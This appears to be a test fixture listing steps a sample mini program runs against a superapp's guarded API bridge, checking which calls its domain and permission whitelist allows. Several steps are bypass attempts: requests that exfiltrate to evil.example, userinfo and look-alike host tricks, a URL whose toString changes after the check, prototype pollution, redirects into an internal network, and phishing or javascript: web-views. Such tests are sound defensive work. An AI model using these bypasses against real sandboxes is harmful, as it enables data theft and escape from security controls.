// The sample mini program: what third-party code inside the superapp does,
// including a few tricks. It only ever sees the guarded `wx` it is given.

export const STEPS = [
  ['request an allowed API', (wx, done) => wx.request({ url: 'https://api.shop.example/v1/items', success: done, fail: done })],
  ['download from an allowed port', (wx, done) => wx.downloadFile({ url: 'https://cdn.shop.example:8443/logo.png', success: done, fail: done })],
  ['request a wildcard host', (wx, done) => wx.request({ url: 'https://a.img.shop.example/pic.png', success: done, fail: done })],
  ['open an allowed socket', (wx, done) => wx.connectSocket({ url: 'wss://ws.shop.example/live', success: done, fail: done })],
  ['exfiltrate to another domain', (wx, done) => wx.request({ url: 'https://evil.example/steal?c=1', success: done, fail: done })],
  ['plain http', (wx, done) => wx.request({ url: 'http://api.shop.example/v1/items', success: done, fail: done })],
  ['wrong port', (wx, done) => wx.request({ url: 'https://api.shop.example:8443/v1', success: done, fail: done })],
  ['userinfo in the URL', (wx, done) => wx.request({ url: 'https://api.shop.example@evil.example/', success: done, fail: done })],
  ['look-alike host', (wx, done) => wx.uploadFile({ url: 'https://api.shop.example.evil.example/up', success: done, fail: done })],
  ['url whose toString changes', (wx, done) => {
    let n = 0;
    const url = { toString: () => (n++ === 0 ? 'https://api.shop.example/v1/flip' : 'https://evil.example/flip') };
    wx.request({ url, success: done, fail: done });
  }],
  ['tampered Object.prototype', (wx, done) => {
    Object.prototype.allow = true; // eslint-disable-line no-extend-native
    try { wx.request({ url: 'https://evil.example/proto', success: done, fail: done }); } finally { delete Object.prototype.allow; }
  }],
  ['granted sensitive API', (wx, done) => wx.getLocation({ success: done, fail: done })],
  ['sensitive API not granted', (wx, done) => wx.chooseImage({ success: done, fail: done })],
  ['built-in API (sync)', (wx, done) => {
    try { done({ errMsg: `getSystemInfoSync:ok ${wx.getSystemInfoSync().platform}` }); } catch (e) { done({ errMsg: e.errMsg }); }
  }],
  ['API outside the whitelist (sync)', (wx, done) => {
    try { done({ errMsg: `getSecretTokenSync:ok ${wx.getSecretTokenSync()}` }); } catch (e) { done({ errMsg: e.errMsg }); }
  }],
];

// Calls to allowed hosts whose answer is a redirect ("the internet" of
// js/harness/server.mjs). The bridge allows each first URL; the base
// library's native layer follows the redirects and checks every hop.
export const REDIRECT_STEPS = [
  ['allowed host redirects to another domain', (wx, done) => wx.request({ url: 'https://api.shop.example/redirect/elsewhere', success: done, fail: done })],
  ['allowed host redirects into the superapp\'s internal network', (wx, done) => wx.request({ url: 'https://api.shop.example/redirect/internal', success: done, fail: done })],
  ['redirect loop (/loop/a ⇄ /loop/b)', (wx, done) => wx.request({ url: 'https://api.shop.example/loop/a', success: done, fail: done })],
  ['chain of 10 redirects', (wx, done) => wx.request({ url: 'https://api.shop.example/chain/10/10', success: done, fail: done })],
  ['chain of 11 redirects', (wx, done) => wx.downloadFile({ url: 'https://api.shop.example/chain/11/11', success: done, fail: done })],
];

export const WEBVIEW_STEPS = [
  ['web-view to another domain', 'https://evil.example/phish'],
  ['web-view javascript:', 'javascript:alert(1)'],
  ['web-view to the allowed H5 site', 'https://h5.shop.example/welcome'],
];
